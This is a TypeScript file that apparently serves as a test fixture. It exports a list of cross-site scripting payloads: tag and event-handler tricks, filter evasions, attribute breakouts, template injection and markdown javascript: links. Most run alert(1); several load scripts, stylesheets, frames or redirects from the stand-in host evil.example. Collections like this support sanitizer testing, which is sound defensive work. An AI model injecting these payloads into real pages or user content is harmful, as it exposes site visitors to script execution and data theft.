// Sixty ways in which markup gets into a page that does not look. Each would open a dialog or ask another host.

const CALL = 'alert(1)';
const AWAY = 'https://evil.example/x';

const elements = [
  `<script>${CALL}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="${AWAY}.png">`,
  `<img src=x onerror="${CALL}"//`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="${AWAY}.swf">`,
  `<video><source onerror=${CALL}></video>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=prefetch href="${AWAY}">`,
  `<style>@import '${AWAY}.css';</style>`,
  `<style>*{background:url(${AWAY}.png)}</style>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<p onmouseover=${CALL}>x</p>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[><script>${CALL}</script>]]>`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<x onclick=${CALL} tabindex=1 autofocus onfocus=${CALL}>x</x>`,
];

const breakouts = [
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `javascript:${CALL}`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
];

const markdown = [
  `[x](javascript:${CALL})`,
  `[x](JaVaScRiPt:${CALL})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](${AWAY}.png)`,
  `![x](x "onerror=${CALL}")`,
  `<javascript:${CALL}>`,
  `[x]: javascript:${CALL}\n\n[x]`,
];

export const PAYLOADS: readonly string[] = [...elements, ...breakouts, ...markdown];
